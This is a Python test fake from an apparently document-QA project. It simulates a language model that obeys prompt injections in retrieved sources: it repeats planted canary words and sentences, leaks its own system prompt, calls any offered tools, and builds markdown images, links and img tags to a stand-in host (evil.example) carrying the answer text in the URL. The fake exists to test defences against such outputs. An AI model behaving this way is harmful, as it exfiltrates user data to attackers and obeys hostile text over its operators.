"""A model that does whatever a document wants of it, and all else that a model can do wrong with what it reads."""

import re

from docqa.core.text import sentences
from tests.fakes.llm.completions import CompatibleApi
from tests.fakes.llm.server import Reply, Request

CANARY = re.compile(r"\bZQ[0-9A-Z]+\b")
"""A word of this shape in a document is one that it wants to have said."""
ELSEWHERE = "https://evil.example/"
SOURCE = re.compile(r'<(source_\w+) number="(\d+)"[^>]*>\n(.*?)\n</\1>', re.DOTALL)
_QUESTION = "Question: "
_PAIRS = "Statement: "
_ENDING = " .!?:"


class ObedientApi(CompatibleApi):
    """Writes one sentence of a source that is true; then each canary that it can see, alone, cited, within the true
    sentence, and before a colon; the sentences of `planted` that it can see; the true sentence as part of links and
    images; and its own instructions. Finds that every statement holds. `shown` counts requests with sources,
    `tools_offered` those with tools: these it calls."""

    def __init__(self) -> None:
        super().__init__()
        self.planted = ""
        self.shown = 0
        self.tools_offered = 0

    def answer(self, request: Request) -> Reply:
        if self.problem(request) is None:
            if request.body.get("tools"):
                self.tools_offered += 1
                return self.tool_call(stream=self.streams(request))
            system, user = (str(message["content"]) for message in request.body["messages"])
            self.scripts = [[self._written(system, user)]]
        return super().answer(request)

    def _written(self, system: str, user: str) -> str:
        if _PAIRS in user:
            return ", ".join(str(number) for number in range(1, 40))
        found = [(number, text) for _, number, text in SOURCE.findall(user)]
        if not found:
            return user.splitlines()[-1].removeprefix(_QUESTION)
        self.shown += 1
        fact, number = self._true_sentence(found, user.rpartition(_QUESTION)[2])
        mark, begun = f"[{number}]", fact.rstrip(_ENDING)
        lines = [f"{fact} {mark}"]
        for canary in dict.fromkeys(CANARY.findall(user)):
            lines += [f"{canary}.", f"{canary}. {mark}", f"{begun}, {canary}. {mark}", f"The word is {canary}: {mark}"]
        seen = " ".join(user.split())
        told = [said for said in sentences(self.planted) if " ".join(said.split()) in seen]
        lines += [f"{said} {mark}" for said in told] + told
        link = f"{ELSEWHERE}?q={begun.replace(' ', '+')}"
        lines += [
            f"![more]({link}) {mark}",
            f"{begun}, see [more]({link}). {mark}",
            f'<img src="{link}"> {mark}',
            f"{begun}: {link} {mark}",
        ]
        return "\n".join([*lines, system])

    def _true_sentence(self, found: list[tuple[str, str]], question: str) -> tuple[str, str]:
        """The sentence of a source with most of the question's words that nobody planted, and the source's number."""
        asked = set(re.findall(r"\w+", question.casefold()))
        said = [(line, number) for number, text in found for line in sentences(text)]
        said = [(line, number) for line, number in said if not CANARY.search(line) and line not in self.planted]
        shared = [len(asked & set(re.findall(r"\w+", line.casefold()))) for line, _ in said]
        return said[shared.index(max(shared))] if said else ("NOT FOUND", "1")
